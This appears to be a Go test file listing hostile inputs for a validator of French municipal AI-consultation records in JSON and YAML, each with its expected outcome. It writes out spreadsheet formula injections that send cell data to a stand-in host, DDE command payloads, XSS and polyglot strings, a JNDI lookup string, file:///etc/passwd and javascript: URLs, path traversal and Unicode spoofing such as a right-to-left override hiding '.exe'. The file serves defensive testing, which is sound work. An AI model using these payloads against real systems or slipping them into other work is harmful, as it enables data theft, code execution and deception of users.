package main

import (
	"slices"
	"strings"
)

var hostileText = slices.Concat(hostileFormulas, hostileMarkup, hostileIdentifiers(), hostileUnicode)

var hostileFormulas = []hostile{
	{row: "C1", name: "an equals sign", file: "a.json", make: with("/titre", "=5"), want: accepted, read: "/titre==5"},
	{row: "C1", name: "a plus sign", file: "a.json", make: with("/titre", "+5 % de participation"), want: accepted},
	{row: "C1", name: "a minus sign", file: "a.json", make: with("/titre", "-5 degrés dans les bureaux"), want: accepted},
	{row: "C1", name: "an at sign", file: "a.json", make: with("/titre", "@mairie : parlons d'IA"), want: accepted},
	{row: "C1", name: "a tab", file: "a.json", make: with("/resume", "\tUn résumé"), want: accepted},
	{row: "C1", name: "a carriage return", file: "a.json", make: with("/resume", "\rUn résumé"), want: accepted},
	{row: "C1", name: "a NUL character", file: "a.json", make: with("/titre", "\x00=5"), want: refused, rule: "json/nul"},
	{row: "C2", name: "a link", file: "a.json", make: with("/titre", `=HYPERLINK("https://vol.example/?"&A1;"clic")`), want: held, rule: "R23", says: "formule"},
	{row: "C2", name: "a query of XML", file: "a.json", make: with("/resume", `=IMPORTXML(CONCAT("https://vol.example/?";A1);"//a")`), want: held, rule: "R23"},
	{row: "C2", name: "DDE", file: "a.json", make: with("/titre", `=cmd|' /C calc'!A0`), want: held, rule: "R23"},
	{row: "C2", name: "DDE after a minus sign", file: "a.json", make: with("/titre", `-cmd|' /C calc'!A0`), want: held, rule: "R23"},
	{row: "C2", name: "DDE after a sum", file: "a.json", make: with("/titre", `@SUM(1+9)*cmd|' /C calc'!A0`), want: held, rule: "R23"},
	{row: "C2", name: "DDE after a number", file: "a.json", make: with("/titre", `=1+9+cmd|' /C calc'!A0`), want: held, rule: "R23"},
	{row: "C2", name: "a link after a number", file: "a.json", make: with("/titre", `=1+HYPERLINK("https://vol.example")`), want: held, rule: "R23"},
	{row: "C2", name: "a link after a text", file: "a.json", make: with("/titre", `="a"&HYPERLINK("https://vol.example")`), want: held, rule: "R23"},
	{row: "C2", name: "a link in brackets", file: "a.json", make: with("/titre", `=(HYPERLINK("https://vol.example"))`), want: held, rule: "R23"},
	{row: "C2", name: "a link after a tab", file: "a.json", make: with("/titre", "\t=HYPERLINK(\"https://vol.example\")"), want: held, rule: "R23"},
	{row: "C2", name: "a link in an item", file: "a.json", make: with("/objectifs/1", `=HYPERLINK("https://vol.example")`), want: held, rule: "R23"},
	{row: "C2", name: "a link in YAML", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", `titre: =HYPERLINK("https://vol.example")`), want: held, rule: "R23", at: "20:8"},
	{row: "C2", name: "a formula that is told of", file: "a.json", make: with("/resume", "La formule\n=HYPERLINK(…) a été expliquée."), want: accepted},
	{row: "C3", name: "a formula as an identifier", file: "a.json", make: with("/id_concertation", "=CTIA-219600129-2024-01"), want: refused, rule: "schema/pattern"},
	{row: "C3", name: "a formula as a SIREN", file: "a.json", make: with("/porteurs/0/siren", "=219600129"), want: refused, rule: "schema/pattern"},
	{row: "C3", name: "a formula as a date", file: "a.json", make: with("/date_debut", "=TODAY()"), want: refused, rule: "schema/format"},
	{row: "C3", name: "a formula as a code", file: "a.json", make: with("/modalite", "=presentiel"), want: refused, rule: "schema/enum"},
	{row: "C3", name: "a paragraph as a code in YAML", file: "a.yaml", make: yamlWith("methodes: [audition]", "methodes: ['Des ateliers puis ⟦ et encore une séance×20⟧']"), want: refused, rule: "form/code-unknown"},
	{row: "C4", name: "full-width signs", file: "a.json", make: with("/titre", "＝5 ＋ 3 － 1 ＠mairie"), want: accepted},
	{row: "C4", name: "a link after a full-width sign", file: "a.json", make: with("/titre", `＝HYPERLINK("https://vol.example")`), want: held, rule: "R23"},
	{row: "C4", name: "a link in full-width letters", file: "a.json", make: with("/titre", `＝ＨＹＰＥＲＬＩＮＫ（"https://vol.example"）`), want: held, rule: "R23"},
	{row: "C4", name: "DDE after a full-width sign", file: "a.json", make: with("/titre", `＋cmd|' /C calc'!A0`), want: held, rule: "R23"},
	{row: "C5", name: "separators, quotes and line breaks", file: "a.json", make: with("/resume", "un;deux,trois\t\"quatre\" \"\"\r\ncinq\rsix\nsept\""), want: accepted},
	// No text of this schema may be that long: what Excel would cut is refused.
	{row: "C6", name: "a text of 32,768 characters", file: "a.json", make: spliced(`"resume": "`, `"resume": "⟦é×32768⟧`), want: refused, rule: "schema/maxLength", says: "2000"},
	{row: "C7", name: "a list with dashes", file: "a.json", make: with("/resume", "- une école\n- un collège\n- un lycée"), want: accepted},
	{row: "C7", name: "a list with dashes in YAML", file: "a.yaml", make: yamlWith("resume: Neuf soirées, huit services rencontrés, un avis.", "resume: |\n  - une école\n  - un collège"), want: accepted, read: "/resume=- une école\n- un collège"},
	{row: "C7", name: "a number with a plus sign", file: "a.json", make: with("/resume", "+33 000 habitants en dix ans"), want: accepted},
}

var hostileMarkup = []hostile{
	{row: "H1", name: "a script", file: "a.json", make: with("/titre", "<script>alert(1)</script>"), want: accepted},
	{row: "H1", name: "an event handler", file: "a.json", make: with("/titre", `"><img src=x onerror=alert(1)>`), want: accepted},
	{row: "H1", name: "a polyglot", file: "a.json", make: with("/resume", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"), want: accepted},
	{row: "H2", name: "javascript:", file: "a.json", make: with("/url_methodologie", "javascript:alert(1)"), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "data:", file: "a.json", make: with("/url_methodologie", "data:text/html,<script>alert(1)</script>"), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "no scheme", file: "a.json", make: with("/productions/0/url", "//vol.example/avis.pdf"), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "file:", file: "a.json", make: with("/productions/0/url", "file:///etc/passwd"), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "a password in it", file: "a.json", make: with("/url_methodologie", "https://mairie:secret@exemple.fr/"), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "a quote that ends it", file: "a.json", make: with("/url_methodologie", `https://exemple.fr/"onmouseover="alert(1)`), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "a line break in it", file: "a.json", make: with("/url_methodologie", "https://exemple.fr/\njavascript:alert(1)"), want: refused, rule: "schema/pattern"},
	{row: "H2", name: "a megabyte of it", file: "a.json", make: spliced(`"methodologie_publique"`, `"url_methodologie": "https://exemple.fr/⟦a×1000000⟧", "methodologie_publique"`), want: refused, rule: "schema/maxLength"},
	{row: "H2", name: "javascript: in YAML", file: "a.yaml", make: yamlWith("langue: fr", "langue: fr\nurl_methodologie: JAVASCRIPT:alert(1)"), want: refused, rule: "schema/pattern"},
	{row: "H3", name: "a link in Markdown", file: "a.json", make: with("/resume", "[clic](javascript:alert(1)) ![x](https://balise.example/p.gif) <b>gras</b>"), want: accepted},
	{row: "H4", name: "an image that is a program", file: "logo.svg", make: raw(svg), want: refused, rule: "format/html"},
	{row: "H4", name: "an image named as a canevas", file: "a.json", make: raw(svg), want: refused, rule: "format/html"},
	{row: "H4", name: "an image in a text", file: "a.json", make: with("/titre", svg), want: accepted},
	{row: "H5", name: "the end of a script", file: "a.json", make: with("/titre", "</script><script>alert(1)</script><!--"), want: accepted},
	{row: "H6", name: "templates", file: "a.json", make: with("/resume", "{{.}} {{template \"x\"}} ${jndi:ldap://vol.example/a} {% include 'x' %} <%= 7*7 %> #{7*7} %s%n"), want: accepted},
	{row: "H6", name: "a template of our own messages", file: "a.json", make: with("/version_canevas", "{this.version_canevas} {} %!s(int=1)"), want: refused, rule: "schema/type"},
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`

// hostileIdentifiers are texts that no identifier may be.
func hostileIdentifiers() []hostile {
	var all []hostile
	for _, id := range []struct{ row, name, text string }{
		{"I1", "a path", "../../index"},
		{"I1", "a slash", "CTIA-219600129-2024-01/x"},
		{"I1", "two dots", ".."},
		{"I1", "nothing", ""},
		{"I1", "a line break at the end", "CTIA-219600129-2024-01\n"},
		{"I2", "a Cyrillic letter", "СTIA-219600129-2024-01"},
		{"I2", "an accent", "CTIA-CArivie\u0300re-2024-01"},
		{"I3", "con", "con"},
		{"I3", "latest", "latest"},
		{"I4", "10,000 characters", "CTIA-CA" + strings.Repeat("x", 10_000) + "-2024-01"},
		{"I5", "an override of direction", "CTIA-219600129\u202e-2024-01"},
		{"I6", "a zero-width space", "CTIA-219600129\u200b-2024-01"},
		{"I6", "a tag character", "CTIA-219600129-2024-01\U000e0041"},
		{"I6", "a byte order mark", "\ufeffCTIA-219600129-2024-01"},
	} {
		all = append(all, hostile{row: id.row, name: id.name + " as an identifier", file: "a.json", make: with("/id_concertation", id.text), want: refused, rule: "schema/pattern"})
	}
	return all
}

var hostileUnicode = []hostile{
	{row: "I1", name: "a NUL character as an identifier", file: "a.json", make: with("/id_concertation", "CTIA-219600129-2024-01\x00"), want: refused, rule: "json/nul"},
	{row: "I2", name: "accents on letters of their own", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", "titre: L'e\u0301te\u0301"), want: accepted, read: "/titre=L'\u00e9t\u00e9"},
	{row: "I5", name: "an override of direction in YAML", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", "titre: L'IA \u202egnp.exe à la mairie"), want: warned, rule: "form/invisible", read: "/titre=L'IA gnp.exe à la mairie"},
	{row: "I5", name: "an override of direction in JSON", file: "a.json", make: with("/titre", "L'IA \u202egnp.exe"), want: warned, rule: "*/invisible"},
	{row: "I5", name: "an override of direction in an identifier in YAML", file: "a.yaml", make: yamlWith("CTIA-219600129-2024-01", "CTIA-219600129\u202e-2024-01"), want: refused, rule: "form/invisible-in-value"},
	{row: "I6", name: "a zero-width space in YAML", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", "titre: L'IA\u200b à\u00ad la\u2060 mairie\ufeff"), want: accepted, read: "/titre=L'IA à la mairie"},
	{row: "I6", name: "a zero-width space in an identifier in YAML", file: "a.yaml", make: yamlWith("CTIA-219600129-2024-01", "CTIA-219600129\u200b-2024-01"), want: refused, rule: "form/invisible-in-value"},
	{row: "I6", name: "joiners that an image needs", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", "titre: Les 👩‍💻 et le 🏳️‍🌈"), want: accepted, read: "/titre=Les 👩‍💻 et le 🏳️‍🌈"},
	{row: "I7", name: "an unassigned character", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", "titre: L'IA \u0378 à la mairie"), want: warned, rule: "form/*"},
	{row: "I7", name: "a private character", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", "titre: L'IA \ue000 à la mairie"), want: warned, rule: "form/*"},
	{row: "I7", name: "a noncharacter", file: "a.yaml", make: yamlWith("titre: L'IA à la mairie", `titre: "L'IA \uFDD0 à la mairie"`), want: refused, rule: "yaml/control"},
	{row: "I8", name: "1,000 accents on a letter", file: "a.yaml", make: yamlWith("resume: Neuf soirées, huit services rencontrés, un avis.", "resume: Z⟦\u0301×1000⟧ut"), want: noted, rule: "form/marks", read: "/resume=Ź\u0301\u0301\u0301\u0301\u0301\u0301\u0301ut"},
	{row: "I8", name: "1,000 accents on a letter in JSON", file: "a.json", make: spliced("Installé en 2022", "Z⟦\u0301×1000⟧ut"), want: noted, rule: "*/marks"},
}
